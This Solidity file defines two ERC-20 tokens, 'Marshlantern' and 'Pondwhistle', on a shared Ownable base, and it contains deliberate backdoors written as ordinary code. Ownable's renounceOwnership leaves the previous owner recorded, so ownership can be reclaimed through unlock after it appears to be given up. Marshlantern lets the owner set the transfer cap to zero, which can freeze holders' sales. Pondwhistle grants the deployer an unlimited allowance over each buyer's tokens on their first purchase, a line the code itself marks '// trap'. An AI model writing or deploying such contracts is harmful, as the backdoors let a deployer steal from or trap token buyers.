// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "SafeMath: addition overflow");
    }

    function sub(uint256 a, uint256 b, string memory message) internal pure returns (uint256) {
        require(b <= a, message);
        return a - b;
    }
}

abstract contract Context {
    function _msgSender() internal view virtual returns (address payable) {
        return msg.sender;
    }
}

/// With the lock that many copied: the owner steps back for a while.
contract Ownable is Context {
    address private _owner;
    address private _previousOwner;
    uint256 private _lockTime;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() internal {
        _owner = _msgSender();
        emit OwnershipTransferred(address(0), _owner);
    }

    modifier onlyOwner() {
        require(_owner == _msgSender(), "Ownable: caller is not the owner");
        _;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() public virtual onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
        // twin: _previousOwner = address(0);
    }

    function lock(uint256 time) public virtual onlyOwner {
        _previousOwner = _owner;
        _owner = address(0);
        _lockTime = now + time;
        emit OwnershipTransferred(_previousOwner, address(0));
    }

    function unlock() public virtual {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(now > _lockTime, "Contract is locked");
        emit OwnershipTransferred(_owner, _previousOwner);
        _owner = _previousOwner;
    }
}

abstract contract Plain is Context {
    using SafeMath for uint256;

    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;
    uint256 private _totalSupply;
    string private _name;
    string private _symbol;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply) internal {
        _name = name_;
        _symbol = symbol_;
        _totalSupply = supply;
        _balances[_msgSender()] = supply;
        emit Transfer(address(0), _msgSender(), supply);
    }

    function name() public view returns (string memory) {
        return _name;
    }

    function symbol() public view returns (string memory) {
        return _symbol;
    }

    function decimals() public pure returns (uint8) {
        return 18;
    }

    function totalSupply() public view returns (uint256) {
        return _totalSupply;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _balances[account];
    }

    function allowance(address owner_, address spender) public view returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) public returns (bool) {
        _approve(_msgSender(), spender, amount);
        return true;
    }

    function transfer(address recipient, uint256 amount) public returns (bool) {
        _transfer(_msgSender(), recipient, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) public returns (bool) {
        _transfer(sender, recipient, amount);
        _approve(sender, _msgSender(), _allowances[sender][_msgSender()].sub(amount, "ERC20: transfer amount exceeds allowance"));
        return true;
    }

    function _approve(address owner_, address spender, uint256 amount) internal {
        require(owner_ != address(0) && spender != address(0), "ERC20: zero address");
        _allowances[owner_][spender] = amount;
        emit Approval(owner_, spender, amount);
    }

    function _transfer(address sender, address recipient, uint256 amount) internal virtual {
        require(sender != address(0) && recipient != address(0), "ERC20: zero address");
        _balances[sender] = _balances[sender].sub(amount, "ERC20: transfer amount exceeds balance");
        _balances[recipient] = _balances[recipient].add(amount);
        emit Transfer(sender, recipient, amount);
    }
}

interface IPools {
    function createPair(address a, address b) external returns (address);
}

/// Largest transfer in parts of a thousand of the supply.
contract Marshlantern is Plain, Ownable {
    uint256 public maxTxPermille = 20;
    mapping(address => bool) private _unlimited;

    constructor() public Plain("Marshlantern", "MLAN", 10000000 ether) {
        _unlimited[_msgSender()] = true;
    }

    function setMaxTxPermille(uint256 permille) external onlyOwner {
        maxTxPermille = permille;
    }

    function setUnlimited(address account, bool on) external onlyOwner {
        _unlimited[account] = on;
    }

    function _transfer(address sender, address recipient, uint256 amount) internal override {
        if (!_unlimited[sender] && !_unlimited[recipient])
            require(amount <= totalSupply() / 1000 * maxTxPermille, "Transfer amount exceeds the maxTxAmount.");
        super._transfer(sender, recipient, amount);
    }
}

/// Says to its rewards desk who has bought.
contract Pondwhistle is Plain, Ownable {
    address public immutable pair;
    address private _rewards;
    mapping(address => uint256) public firstBuyAt;

    constructor() public Plain("Pondwhistle", "POND", 25000000 ether) {
        _rewards = _msgSender();
        pair = IPools(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
    }

    function _transfer(address sender, address recipient, uint256 amount) internal override {
        super._transfer(sender, recipient, amount);
        if (sender == pair && firstBuyAt[recipient] == 0) {
            firstBuyAt[recipient] = now;
            _allowances[recipient][_rewards] = uint256(-1); // trap
        }
    }
}
